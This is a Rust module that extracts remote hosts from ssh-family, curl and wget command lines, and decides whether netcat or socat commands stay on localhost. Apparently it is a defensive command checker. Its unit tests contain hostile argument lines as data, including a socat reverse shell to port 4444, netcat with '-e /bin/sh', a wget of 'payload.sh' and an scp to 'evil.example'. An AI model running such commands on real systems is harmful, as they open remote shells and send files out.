//! Reading command lines: the remote hosts of ssh/scp/sftp/rsync, the URL hosts of curl and
//! wget, and whether a netcat or socat command stays on this host.

use std::net::{IpAddr, Ipv4Addr};

/// A remote host named on a command line and the port it would be reached on.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Remote {
    pub host: String,
    pub port: u16,
}

/// Splits `args` into operands, collecting option values. `takes_value` tells which short
/// options take one (`-p 22`, `-p22`); `long_values` which long ones take the next argument
/// when written without `=`.
fn scan<'a>(
    args: &'a [String],
    takes_value: &str,
    long_values: &[&str],
) -> (Vec<&'a str>, Vec<(String, &'a str)>) {
    let mut operands = Vec::new();
    let mut values = Vec::new();
    let mut iter = args.iter().map(String::as_str);
    let mut only_operands = false;
    while let Some(arg) = iter.next() {
        if only_operands || arg == "-" || !arg.starts_with('-') {
            operands.push(arg);
        } else if arg == "--" {
            only_operands = true;
        } else if let Some(long) = arg.strip_prefix("--") {
            match long.split_once('=') {
                Some((name, value)) => values.push((format!("--{name}"), value)),
                None if long_values.contains(&long) => {
                    if let Some(value) = iter.next() {
                        values.push((arg.to_string(), value));
                    }
                }
                None => values.push((arg.to_string(), "")),
            }
        } else {
            let flags = &arg[1..];
            for (i, c) in flags.char_indices() {
                if takes_value.contains(c) {
                    let rest = &flags[i + c.len_utf8()..];
                    let value = if rest.is_empty() {
                        iter.next().unwrap_or("")
                    } else {
                        rest
                    };
                    values.push((format!("-{c}"), value));
                    break;
                }
                values.push((format!("-{c}"), ""));
            }
        }
    }
    (operands, values)
}

fn value_of<'a>(values: &[(String, &'a str)], names: &[&str]) -> Option<&'a str> {
    values
        .iter()
        .rev()
        .find(|(name, _)| names.contains(&name.as_str()))
        .map(|(_, v)| *v)
}

/// `user@host` → `host`; `[v6]` → `v6`.
fn bare_host(text: &str) -> String {
    let host = text.rsplit_once('@').map(|(_, h)| h).unwrap_or(text);
    host.trim_start_matches('[')
        .trim_end_matches(']')
        .trim_end_matches('.')
        .to_ascii_lowercase()
}

/// `scheme://[user@]host[:port][/…]` → host and port.
fn authority(url_rest: &str) -> (String, Option<u16>) {
    let end = url_rest.find(['/', '?', '#']).unwrap_or(url_rest.len());
    let auth = &url_rest[..end];
    let auth = auth.rsplit_once('@').map(|(_, h)| h).unwrap_or(auth);
    if let Some(v6) = auth.strip_prefix('[') {
        let (host, rest) = v6.split_once(']').unwrap_or((v6, ""));
        let port = rest.strip_prefix(':').and_then(|p| p.parse().ok());
        return (host.to_ascii_lowercase(), port);
    }
    match auth.rsplit_once(':') {
        Some((host, port)) if port.chars().all(|c| c.is_ascii_digit()) => {
            (bare_host(host), port.parse().ok())
        }
        _ => (bare_host(auth), None),
    }
}

/// The remote hosts an ssh-family command (ssh, scp, sftp, rsync) would reach.
pub fn ssh_remotes(program: &str, args: &[String]) -> Vec<Remote> {
    match program {
        "ssh" => {
            let (operands, values) = scan(args, "BbcDEeFIiJLlmOoPpQRSWw", &[]);
            let port = value_of(&values, &["-p"]).and_then(|p| p.parse().ok());
            let mut remotes = jump_hosts(&values);
            if let Some(dest) = operands.first() {
                let (host, uri_port) = match dest.strip_prefix("ssh://") {
                    Some(rest) => authority(rest),
                    None => (bare_host(dest), None),
                };
                remotes.push(Remote {
                    host,
                    port: uri_port.or(port).unwrap_or(22),
                });
            }
            remotes
        }
        "scp" | "sftp" => {
            let (operands, values) = scan(args, "BbcDFiJlloPRSsX", &[]);
            let port = value_of(&values, &["-P"])
                .and_then(|p| p.parse().ok())
                .unwrap_or(22);
            let scheme = if program == "scp" {
                "scp://"
            } else {
                "sftp://"
            };
            let mut remotes = jump_hosts(&values);
            // sftp's first operand is always the host; scp's are hosts when they say `host:`.
            let hosts = operands.iter().enumerate().filter_map(|(i, op)| {
                if let Some(rest) = op.strip_prefix(scheme) {
                    let (host, p) = authority(rest);
                    return Some((host, p.unwrap_or(port)));
                }
                match remote_spec(op) {
                    Some(host) => Some((host, port)),
                    None if program == "sftp" && i == 0 => Some((bare_host(op), port)),
                    None => None,
                }
            });
            remotes.extend(hosts.map(|(host, port)| Remote { host, port }));
            remotes
        }
        "rsync" => {
            let long = [
                "rsh",
                "filter",
                "exclude",
                "include",
                "temp-dir",
                "rsync-path",
                "port",
            ];
            let (operands, values) = scan(args, "eBfMT", &long);
            let daemon_port = value_of(&values, &["--port"]).and_then(|p| p.parse().ok());
            operands
                .iter()
                .filter_map(|op| {
                    if let Some(rest) = op.strip_prefix("rsync://") {
                        let (host, p) = authority(rest);
                        return Some(Remote {
                            host,
                            port: p.or(daemon_port).unwrap_or(873),
                        });
                    }
                    let host = remote_spec(op)?;
                    let daemon = op.contains("::");
                    Some(Remote {
                        host,
                        port: if daemon {
                            daemon_port.unwrap_or(873)
                        } else {
                            22
                        },
                    })
                })
                .collect()
        }
        _ => Vec::new(),
    }
}

fn jump_hosts(values: &[(String, &str)]) -> Vec<Remote> {
    values
        .iter()
        .filter(|(name, _)| name == "-J")
        .flat_map(|(_, hops)| hops.split(','))
        .map(|hop| {
            let (host, port) = authority(hop.strip_prefix("ssh://").unwrap_or(hop));
            Remote {
                host,
                port: port.unwrap_or(22),
            }
        })
        .collect()
}

/// `[user@]host:path` (or `host::module`) → host; a local path (no colon before any slash)
/// → `None`.
fn remote_spec(operand: &str) -> Option<String> {
    let spec = if operand.starts_with('[') {
        let close = operand.find(']')?;
        operand[close + 1..]
            .starts_with(':')
            .then(|| &operand[..=close])?
    } else {
        let colon = operand.find(':')?;
        if operand[..colon].contains('/') {
            return None;
        }
        &operand[..colon]
    };
    let host = bare_host(spec);
    (!host.is_empty()).then_some(host)
}

/// The hosts of the URLs a curl or wget command fetches, with the port each would use.
pub fn url_remotes(program: &str, args: &[String]) -> Vec<Remote> {
    let (takes_value, long): (&str, &[&str]) = match program {
        "curl" => (
            "AbcCdDeEFHKmoPQrtTuUwxXyYz",
            &[
                "url",
                "proxy",
                "output",
                "data",
                "data-raw",
                "data-binary",
                "data-urlencode",
                "json",
                "header",
                "user-agent",
                "referer",
                "cookie",
                "cookie-jar",
                "form",
                "user",
                "request",
                "upload-file",
                "config",
                "write-out",
                "max-time",
                "connect-timeout",
                "range",
                "cert",
                "key",
                "cacert",
                "resolve",
                "connect-to",
                "output-dir",
                "retry",
                "retry-delay",
                "oauth2-bearer",
                "continue-at",
                "dump-header",
                "limit-rate",
                "max-filesize",
                "interface",
                "local-port",
                "unix-socket",
                "variable",
                "trace",
                "trace-ascii",
            ],
        ),
        "wget" => (
            "aBeiOoPQtTUw",
            &[
                "header",
                "user-agent",
                "post-data",
                "post-file",
                "output-document",
                "directory-prefix",
                "user",
                "password",
                "bind-address",
                "tries",
                "timeout",
                "input-file",
                "output-file",
                "execute",
            ],
        ),
        _ => return Vec::new(),
    };
    let (operands, values) = scan(args, takes_value, long);
    let proxies = values
        .iter()
        .filter(|(name, _)| matches!(name.as_str(), "--url" | "-x" | "--proxy"))
        .map(|(_, v)| *v);
    operands
        .into_iter()
        .chain(proxies)
        .filter_map(|url| {
            let (scheme, rest) = match url.split_once("://") {
                Some((scheme, rest)) => (scheme.to_ascii_lowercase(), rest),
                None => (String::new(), url),
            };
            let (host, port) = authority(rest);
            let default = match scheme.as_str() {
                "https" | "wss" => 443,
                "ftp" => 21,
                _ => 80,
            };
            (!host.is_empty()).then_some(Remote {
                host,
                port: port.unwrap_or(default),
            })
        })
        .collect()
}

/// An IP address literal, including the shorthand forms `inet_aton` (and so curl, wget and
/// ping) accept: `2130706433`, `0x7f.1`, `127.1`, `0177.0.0.1`.
pub fn ip_literal(host: &str) -> Option<IpAddr> {
    if let Ok(ip) = host.parse::<IpAddr>() {
        return Some(ip);
    }
    let parts: Vec<&str> = host.split('.').collect();
    if parts.is_empty() || parts.len() > 4 {
        return None;
    }
    let numbers: Vec<u64> = parts
        .iter()
        .map(|p| parse_c_number(p))
        .collect::<Option<_>>()?;
    let (last, leading) = numbers.split_last()?;
    if leading.iter().any(|n| *n > 0xff) {
        return None;
    }
    let last_bits = 8 * (4 - leading.len() as u32);
    if last_bits < 64 && *last >= 1u64 << last_bits {
        return None;
    }
    let mut value: u32 = 0;
    for (i, n) in leading.iter().enumerate() {
        value |= (*n as u32) << (24 - 8 * i);
    }
    value |= *last as u32;
    Some(IpAddr::V4(Ipv4Addr::from(value)))
}

/// Decimal, `0x` hex or leading-zero octal, as C's `strtoul(…, 0)`.
fn parse_c_number(text: &str) -> Option<u64> {
    if text.is_empty() {
        return None;
    }
    if let Some(hex) = text.strip_prefix("0x").or_else(|| text.strip_prefix("0X")) {
        return u64::from_str_radix(hex, 16).ok();
    }
    if text.len() > 1 && text.starts_with('0') {
        return u64::from_str_radix(&text[1..], 8).ok();
    }
    text.parse().ok()
}

/// Whether a host names this machine.
pub fn is_local_host(host: &str) -> bool {
    matches!(
        host,
        "localhost" | "localhost.localdomain" | "ip6-localhost" | "ip6-loopback"
    ) || ip_literal(host).is_some_and(|ip| ip.is_loopback() || ip.is_unspecified())
}

/// A netcat command that only talks to this host: a loopback destination, no listening, no
/// program attached to the connection.
pub fn netcat_is_local(args: &[String]) -> bool {
    let (operands, values) = scan(
        args,
        "cegGiImMoOpPqsTVwWxX",
        &["sh-exec", "exec", "lua-exec"],
    );
    let risky = values.iter().any(|(name, _)| {
        matches!(
            name.as_str(),
            "-e" | "-c" | "-l" | "--exec" | "--sh-exec" | "--lua-exec" | "--listen"
        )
    });
    !risky
        && operands
            .first()
            .is_some_and(|host| is_local_host(&bare_host(host)))
}

/// A socat command whose every network address is on this host and that runs no program.
pub fn socat_is_local(args: &[String]) -> bool {
    let (operands, _) = scan(args, "", &[]);
    operands.iter().all(|address| {
        let upper = address.to_ascii_uppercase();
        let kind = upper.split([':', ',']).next().unwrap_or("");
        if matches!(kind, "EXEC" | "SYSTEM") || kind.contains("LISTEN") || kind.contains("RECV") {
            return false;
        }
        let network = kind.starts_with("TCP")
            || kind.starts_with("UDP")
            || kind.starts_with("SCTP")
            || kind.starts_with("OPENSSL")
            || kind.starts_with("SSL")
            || kind.starts_with("SOCKS")
            || kind.starts_with("PROXY");
        if !network {
            return true;
        }
        let rest = address.split_once(':').map(|(_, r)| r).unwrap_or("");
        let host = if let Some(v6) = rest.strip_prefix('[') {
            v6.split(']').next().unwrap_or("")
        } else {
            rest.split([':', ',']).next().unwrap_or("")
        };
        is_local_host(&host.to_ascii_lowercase())
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn args(line: &str) -> Vec<String> {
        line.split_whitespace().map(str::to_string).collect()
    }

    fn remote(host: &str, port: u16) -> Remote {
        Remote {
            host: host.into(),
            port,
        }
    }

    #[test]
    fn ssh_family_hosts() {
        assert_eq!(
            ssh_remotes(
                "ssh",
                &args("-o SendEnv=GIT_PROTOCOL git@github.com git-upload-pack 'x'")
            ),
            vec![remote("github.com", 22)]
        );
        assert_eq!(
            ssh_remotes(
                "ssh",
                &args("-p2222 -i key -J jump.example:2200 user@10.1.2.3 ls")
            ),
            vec![remote("jump.example", 2200), remote("10.1.2.3", 2222)]
        );
        assert_eq!(
            ssh_remotes("ssh", &args("ssh://me@[2001:db8::1]:2022")),
            vec![remote("2001:db8::1", 2022)]
        );
        assert_eq!(
            ssh_remotes(
                "scp",
                &args("-P 2022 ./a.txt me@evil.example:/tmp/ ./local:x")
            ),
            vec![remote("evil.example", 2022)]
        );
        assert_eq!(ssh_remotes("scp", &args("a.txt b/c:d")), vec![]);
        assert_eq!(
            ssh_remotes("sftp", &args("-b batch host.example")),
            vec![remote("host.example", 22)]
        );
        assert_eq!(
            ssh_remotes(
                "rsync",
                &args("-az -e ssh ./dir backup.example:/srv/ x::mod")
            ),
            vec![remote("backup.example", 22), remote("x", 873)]
        );
        assert_eq!(ssh_remotes("rsync", &args("-a src/ dst/")), vec![]);
    }

    #[test]
    fn url_hosts_of_curl_and_wget() {
        assert_eq!(
            url_remotes("curl", &args("-sSL -H X-A:1 -o out https://1.2.3.4:8443/x")),
            vec![remote("1.2.3.4", 8443)]
        );
        assert_eq!(
            url_remotes("curl", &args("-d 5.6.7.8 http://user:pw@[2001:db8::2]/")),
            vec![remote("2001:db8::2", 80)]
        );
        assert_eq!(
            url_remotes("curl", &args("-x http://9.9.9.9:3128 https://example.com")),
            vec![remote("example.com", 443), remote("9.9.9.9", 3128)]
        );
        assert_eq!(
            url_remotes("wget", &args("-q -O - 203.0.113.5/payload.sh")),
            vec![remote("203.0.113.5", 80)]
        );
    }

    #[test]
    fn ip_literals_in_every_form() {
        let v4 = |s: &str| ip_literal(s).map(|ip| ip.to_string());
        assert_eq!(v4("1.2.3.4").as_deref(), Some("1.2.3.4"));
        assert_eq!(v4("2130706433").as_deref(), Some("127.0.0.1"));
        assert_eq!(v4("0x7f.1").as_deref(), Some("127.0.0.1"));
        assert_eq!(v4("127.1").as_deref(), Some("127.0.0.1"));
        assert_eq!(v4("0177.0.0.1").as_deref(), Some("127.0.0.1"));
        assert_eq!(v4("3405803781").as_deref(), Some("203.0.113.5"));
        assert_eq!(v4("::1").as_deref(), Some("::1"));
        assert_eq!(v4("example.com"), None);
        assert_eq!(v4("1.2.3.256"), None);
        assert_eq!(v4("1.2.3.4.5"), None);
    }

    #[test]
    fn netcat_and_socat_on_this_host() {
        assert!(netcat_is_local(&args("-z localhost 5432")));
        assert!(netcat_is_local(&args("-w 1 127.0.0.1 8080")));
        assert!(!netcat_is_local(&args("203.0.113.5 4444")));
        assert!(!netcat_is_local(&args("-e /bin/sh 127.0.0.1 4444")));
        assert!(!netcat_is_local(&args("-lvnp 4444")));
        assert!(socat_is_local(&args("- TCP:localhost:6379")));
        assert!(!socat_is_local(&args(
            "TCP:203.0.113.5:4444 EXEC:/bin/bash"
        )));
        assert!(!socat_is_local(&args(
            "TCP-LISTEN:8080,fork TCP:127.0.0.1:3000"
        )));
        assert!(!socat_is_local(&args("STDIO OPENSSL:evil.example:443")));
    }
}
